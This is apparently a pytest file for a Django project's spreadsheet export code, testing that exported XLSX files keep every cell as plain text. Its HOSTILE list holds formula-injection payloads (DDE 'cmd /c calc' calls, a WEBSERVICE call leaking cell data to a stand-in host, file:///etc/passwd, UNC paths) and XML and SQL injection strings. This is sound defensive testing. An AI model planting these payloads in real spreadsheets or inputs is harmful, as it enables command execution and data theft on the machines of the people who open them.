"""Source: RELIABILITY.md T6, X2."""

import re
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from django.utils import translation
from python_calamine import CalamineWorkbook

from renewal.lib.workbooks import (
    About,
    Column,
    Kind,
    SheetOut,
    WrongRow,
    write_errors,
    write_large,
    write_table,
)

# What is written, and what a cell can hold of it where that is not all.
HOSTILE: list[tuple[str, str | None]] = [
    ("=1+1", None),
    ("=cmd|'/c calc'!A0", None),
    ('=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', None),
    ('=HYPERLINK("http://x.test","x")', None),
    ('=WEBSERVICE("http://x.test/?"&A1)', None),
    ("=SUM(1+9)*cmd|' /C calc'!A0", None),
    ('="0012"', None),
    ("{=1+1}", None),
    ("+1", None),
    ("+cmd|'/c calc'!A0", None),
    ("-1", None),
    ("-2+3+cmd|'/c calc'!A0", None),
    ("@SUM(A1)", None),
    ("\t=1+1", None),
    ("\r=1+1", "\n=1+1"),
    ("\n=1+1", None),
    ("a\r\nb\rc", "a\nb\nc"),
    ("；=1+1", None),
    ("＝1+1", None),
    ("http://x.test/", None),
    ("mailto:x@x.test", None),
    ("internal:Sheet1!A1", None),
    ("external:c:\\x.xlsx", None),
    ("file:///etc/passwd", None),
    ("\\\\x.test\\share", None),
    ("<r><t>x</t></r>", None),
    ("<r><f>1+1</f></r></is></c><c><f>1+1</f></c><r></r>", None),
    ('</t></is></c><c t="str"><f>1+1</f></c>', None),
    ("]]>&amp;<![CDATA[x]]>", None),
    ("&lt;&#61;&quot;", None),
    ("_x0041_", None),
    ("a_x000D_b", None),
    ("0012000000001", None),
    ("370200199001010000", None),
    ("1E5", None),
    ("2026-04-12", None),
    ("3/4", None),
    ("TRUE", None),
    ("#REF!", None),
    ("'=1+1", None),
    ("' or 1=1 --", None),
    ("  blanks at both ends  ", None),
    ("\u00a0\u3000", None),
    ("\u202e\u200f=1+1", None),
    ("\ufeff=1+1", None),
    ("𠮷野家 🚗 ﷽", None),
    ("\x00=1+1\x07\x1f", "=1+1"),
    ("a\x0b\x0c\ufffe\uffff\ud800b", "ab"),
    ("x" * 32_767, None),
    ("x" * 32_768, "x" * 32_766 + "…"),
    ("🚗" * 20_000, "🚗" * 16_383 + "…"),
]
SENT = [text for text, _held in HOSTILE]
HELD = [text if held is None else held for text, held in HOSTILE]
AT = datetime(2026, 4, 12, 1, 30, tzinfo=UTC)

Write = Callable[[Path, list[list[str]], list[Column]], None]


def by_write_table(path: Path, rows: list[list[str]], columns: list[Column]) -> None:
    write_table(path, [SheetOut("清单", columns, rows)])


def by_write_large(path: Path, rows: list[list[str]], columns: list[Column]) -> None:
    write_large(path, SheetOut("清单", columns, rows))


def by_write_errors(path: Path, rows: list[list[str]], columns: list[Column]) -> None:
    wrong = (WrongRow(row, {1}, ["no"], f"1:{place}:0") for place, row in enumerate(rows))
    write_errors(path, [column.heading for column in columns], wrong)


WRITERS = [by_write_table, by_write_large, by_write_errors]


def assert_is_only_text(path: Path) -> None:
    """Fail if a part bears a formula, leads out of the file, or is no whole XML."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            part = archive.read(name).decode()
            ElementTree.fromstring(part)
            assert (
                re.findall(r"<(?:\w+:)?(?:f|hyperlink|ddeLink|externalReference)[ >/]", part) == []
            )
            assert re.findall(r"TargetMode|relationships/(?:hyperlink|external)", part) == []


def first_sheet(path: Path) -> list[list[object]]:
    return [[*row] for row in CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()]


@pytest.mark.parametrize("kind", Kind)
@pytest.mark.parametrize("write", WRITERS)
def test_gives_each_text_back_as_it_was(tmp_path: Path, write: Write, kind: Kind) -> None:
    path = tmp_path / "out.xlsx"
    columns = [Column("备注", kind), Column("再", kind)]

    write(path, [[text, text] for text in SENT], columns)

    assert_is_only_text(path)
    rows = first_sheet(path)[1:]
    assert [cells[0] for cells in rows] == HELD
    assert [cells[1] for cells in rows] == HELD


@pytest.mark.parametrize("write", WRITERS)
def test_gives_a_text_back_that_stands_alone(tmp_path: Path, write: Write) -> None:
    path = tmp_path / "out.xlsx"

    read = []
    for text in SENT:
        write(path, [[text, ""]], [Column("备注"), Column("再")])
        assert_is_only_text(path)
        read.append(first_sheet(path)[1][0])

    assert read == HELD


@pytest.mark.parametrize("write", WRITERS)
def test_openpyxl_sees_texts_only(tmp_path: Path, write: Write) -> None:
    path = tmp_path / "out.xlsx"

    write(path, [[text, "x"] for text in SENT], [Column("备注"), Column("再")])

    cells = [row[0] for row in openpyxl.load_workbook(path).worksheets[0].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.hyperlink for cell in cells] == [None] * len(cells)
    assert [str(cell.value).replace("_x005F_", "_") for cell in cells] == HELD


@pytest.mark.parametrize("write", [write_large, write_table])
def test_gives_headings_lines_and_conditions_back(
    tmp_path: Path, write: Callable[..., object]
) -> None:
    path = tmp_path / "out.xlsx"
    sheet = SheetOut(
        title='=\'<&"[1]"',
        columns=[Column(text) for text in SENT],
        rows=[],
        title_rows=SENT,
        total_row=SENT,
        notes=SENT,
    )
    about = About(
        title="=1+1<&>",
        made_by="=1+1<&P>",
        made_at=AT,
        filters=[("=1+1", text) for text in SENT],
        masked=False,
        watermark="=E118<&>",
        reason="=1+1<&>",
    )

    with translation.override("en"):
        write(path, sheet if write is write_large else [sheet], about=about)

    assert_is_only_text(path)
    rows = first_sheet(path)
    lines = [cells[0] for cells in rows]
    assert lines[: len(HELD)] == HELD
    assert [cells for cells in rows if cells == HELD] == [HELD, HELD]
    workbook = CalamineWorkbook.from_path(path)
    assert workbook.sheet_names[0] == '=\'<&" 1 "'
    told = workbook.get_sheet_by_index(1).to_python()
    assert [cells[1] for cells in told if cells[0] == "Filter: =1+1"] == HELD
    with zipfile.ZipFile(path) as archive:
        header = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml")).find(
            ".//{*}oddHeader"
        )
    assert header is not None
    assert header.text == (
        "&RExport =E118<&&> with full numbers, made by =1+1<&&P> on 2026-04-12 09:30"
    )
